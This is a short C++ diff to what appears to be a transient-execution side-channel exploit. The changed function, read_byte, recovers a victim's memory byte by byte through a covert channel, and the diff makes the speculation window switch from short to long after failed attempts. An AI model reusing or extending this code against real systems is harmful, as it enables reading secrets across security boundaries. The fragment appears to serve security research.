@@ -22,7 +22,7 @@ bool receive(const CovertChannel& channel, unsigned first, unsigned count, unsig
 }  // namespace
 
 ByteGuess read_byte(TransientReader& reader, const CovertChannel& channel, const Victim& victim,
-                    unsigned most_attempts) {
+                    unsigned most_attempts, Window& window) {
     const unsigned at_once = victim.portion == Portion::Byte ? CovertChannel::bits : 1;
     ByteGuess guess;
     unsigned value = 0;
@@ -35,10 +35,13 @@ ByteGuess read_byte(TransientReader& reader, const CovertChannel& channel, const
                             .zero_channel = channel.nowhere(),
                             .bit = bit,
                             .victim_is_readable = victim.readable,
-                            .window = i < short_attempts ? Window::Short : Window::Long});
+                            .window = window});
             unsigned bits = 0;
             received = receive(channel, bit, at_once, bits);
             value |= received ? bits : 0;
+            if (!received && i + 1 == short_attempts) {
+                window = Window::Long;
+            }
         }
         if (!received) {
             return guess;
